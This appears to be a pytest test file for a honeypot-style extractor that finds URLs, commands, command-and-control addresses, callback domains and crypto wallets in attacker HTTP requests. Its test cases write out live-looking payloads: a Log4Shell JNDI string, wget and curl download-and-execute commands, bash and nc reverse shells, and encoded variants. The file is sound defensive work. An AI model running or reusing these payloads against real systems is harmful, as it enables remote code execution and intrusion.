"""Attackers give themselves away."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from propolis.flaws.extract import (
    MAX_TEXT_BYTES,
    MAX_TEXTS,
    is_bitcoin,
    merge,
    readable,
    search,
    select,
    selector,
)
from propolis.flaws.request import Request

HEAD = b"POST /x HTTP/1.1\r\nHost: h.example\r\nUser-Agent: bot/1 (+http://crawler.example/)\r\n\r\n"


def found(body: bytes, head: bytes = HEAD) -> dict[str, tuple[str, ...]]:
    return search(Request.parse(head + body))


@pytest.mark.parametrize(
    ("body", "kind", "text"),
    [
        (b"a=http://203.0.113.7:81/x.sh;id", "url", "http://203.0.113.7:81/x.sh"),
        (b"x=${jndi:${lower:l}dap://evil.example:1389/a}", "url", "ldap://evil.example:1389/a"),
        (b"tftp://203.0.113.7/a", "url", "tftp://203.0.113.7/a"),
        (b"u=http%3A%2F%2Fevil.example%2Fa", "url", "http://evil.example/a"),
        (b'{"u":"http:\\/\\/evil.example\\/a"}', "url", "http://evil.example/a"),
        (b"wget+http://203.0.113.7/a+-O+/tmp/a;sh%20/tmp/a", "command", "wget http://203.0.113.7/a -O /tmp/a"),
        (b"cd /tmp; curl 203.0.113.7/a.sh | sh", "url", "203.0.113.7/a.sh"),
        (b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "c2", "203.0.113.7:4444"),
        (b"nc -e /bin/sh 203.0.113.7 99", "c2", "203.0.113.7:99"),
        (b's.connect(("203.0.113.7",9001))', "c2", "203.0.113.7:9001"),
        (b"echo " + base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.8/5 0>&1") + b"|base64 -d", "c2", "203.0.113.8:5"),
        (b"-enc " + base64.b64encode("IEX(curl http://203.0.113.8/a)".encode("utf-16-le")), "url", "http://203.0.113.8/a"),
        (b"nslookup abc123.OAST.fun", "callback", "abc123.oast.fun"),
        (b"-u 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "wallet", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"),
        (b"-u bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.w", "wallet", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"),
        (b"0x52908400098527886E0F7030069857D2E4169EE7", "wallet", "0x52908400098527886E0F7030069857D2E4169EE7"),
    ],
)  # fmt: skip
def test_what_gives_them_away_is_found(body: bytes, kind: str, text: str) -> None:
    assert text in found(body)[kind]


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"http://h.example/own",
        b'<a xmlns="http://www.w3.org/1999/xhtml" xsi="http://schemas.xmlsoap.org/soap/envelope/">',
        b"1BoatSLRHtKNngkdXEeobR76b53LETtpyX",
        b"the fetched synchronous telnetd",
        b"curl and divergence",
    ],
)
def test_what_is_ours_or_nobodys_is_left_out(body: bytes) -> None:
    assert found(body) == {}


def test_selectors_find_fields_and_groups() -> None:
    request = Request.parse(b"GET /?cmd=a%20b&x=id=7; HTTP/1.1\r\nHost: h\r\n\r\n")
    chosen = {
        "command": "query.cmd",
        "n": r"query.x|re:id=(\d)",
        "whole": r"target|re:id=\d",
        "none": "form.x",
    }
    assert select(chosen, request) == {"command": b"a b", "n": b"7", "whole": b"id=7"}


@pytest.mark.parametrize("text", ["nosuch", "query.x|re:(", "|re:x", ""])
def test_a_selector_that_cannot_be_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        selector(text)


def test_the_event_is_told_of_known_kinds_first_what_was_selected() -> None:
    merged = merge({"url": b"http://a/", "other": b"x", "command": b""}, {"url": ("http://b/", "http://a/")})
    assert merged == {"url": ("http://a/", "http://b/")}


def test_everything_is_bounded() -> None:
    many = b" ".join(b"http://evil%d.example/" % n for n in range(100))
    assert len(found(many)["url"]) == MAX_TEXTS
    assert len(readable(b"x" * 9_999)) == MAX_TEXT_BYTES
    assert readable(b"\xff") == "\u00ff"


def test_checksums_of_wallets_are_checked() -> None:
    assert is_bitcoin(b"3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy")
    assert is_bitcoin(b"bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0")
    assert not is_bitcoin(b"3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLx")
    assert not is_bitcoin(b"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5")


@settings(max_examples=200, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=200),
        st.text(alphabet="htp:/.nc 0123456789abc${}%+=\\\"'", max_size=200).map(str.encode),
    )
)
def test_any_request_is_searched(body: bytes) -> None:
    found(body)
